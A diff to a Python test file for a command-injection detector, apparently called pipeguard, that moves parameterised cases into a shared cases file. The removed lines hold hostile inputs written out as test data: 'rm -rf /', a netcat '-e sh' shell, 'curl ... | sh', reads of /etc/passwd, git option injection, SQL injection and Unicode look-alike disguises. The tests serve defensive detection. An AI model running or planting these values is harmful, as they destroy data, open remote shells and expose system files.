@@ -14,25 +14,17 @@ from pipeguard.detect.commands.argument_values import (
     value_lines,
 )
 from pipeguard.detect.commands.shell_command import ScriptBudget
+from tests.detect.cases import read_cases
+from tests.each import each
+
+CASES = read_cases(__file__)
 
 
 def lines(value: str, *, tool: str | None = None, key: str = "name") -> list[str]:
     return value_lines(tool, key, value, ScriptBudget())
 
 
-@pytest.mark.parametrize(
-    ("value", "key", "expected"),
-    [
-        ("../../etc/passwd", "name", "< ../../etc/passwd"),
-        ("--upload-pack=x", "name", "OPT --upload-pack=x"),
-        ("--upload-pack=x", "branch", "DASH --upload-pack=x"),
-        ("main --exec=x", "branch", "OPT --exec=x"),
-        ("a; curl https://h.example", "name", "INJ a; curl https://h.example"),
-        ("a; rm -rf /", "name", "$ rm -r /"),
-        ("1' or 1=1 --", "name", "VAL 1' or 1=1 --"),
-        ("os.system('rm -rf /')", "code", "$ rm -r /"),
-    ],
-)
+@each("value, key, expected", CASES["what_is_smuggled_into_a_value"])
 def test_what_is_smuggled_into_a_value(value: str, key: str, expected: str) -> None:
     assert expected in lines(value, key=key)
 
@@ -79,16 +71,7 @@ def test_look_alikes_are_plain_letters() -> None:
     assert fold_value("rm") == "rm"
 
 
-@pytest.mark.parametrize(
-    ("value", "expected"),
-    [
-        ("rm \u2013rf ~", "rm -rf ~"),
-        ("curl a \u2223 sh", "curl a | sh"),
-        ("\u0441\u0430\u0442 a", "cat a"),
-        ("\ua4e3m -rf /", "Rm -rf /"),
-        ("\u0436\u0443\u043a", "\u0436y\u043a"),
-    ],
-)
+@each("value, expected", CASES["words_of_look_alikes_in_a_command"])
 def test_words_of_look_alikes_in_a_command(value: str, expected: str) -> None:
     assert fold_value(value) == expected
 
@@ -96,35 +79,11 @@ def test_words_of_look_alikes_in_a_command(value: str, expected: str) -> None:
 # --- values that go on as a command ------------------------------------------------------------
 
 
-@pytest.mark.parametrize(
-    "value",
-    [
-        "a; curl h",
-        "a && cat /etc/passwd",
-        "a | nc 10.0.0.1 80 -e sh",
-        "$(whoami)",
-        "a`id`;",
-        "x${IFS}y",
-        "a\nsudo rm -rf /",
-        "a; reboot",
-        "a%0acat /etc/passwd",
-        "' ; ls #",
-    ],
-)
+@each("value", CASES["a_command_behind_a_value"])
 def test_a_command_behind_a_value(value: str) -> None:
     assert injects_command(value)
 
 
-@pytest.mark.parametrize(
-    "value",
-    [
-        "salt & pepper",
-        "wash the cat; find a host",
-        "| cat | id |",
-        "a|b",
-        "costs $5",
-        "R&D; set theory",
-    ],
-)
+@each("value", CASES["prose_and_tables_are_none"])
 def test_prose_and_tables_are_none(value: str) -> None:
     assert not injects_command(value)
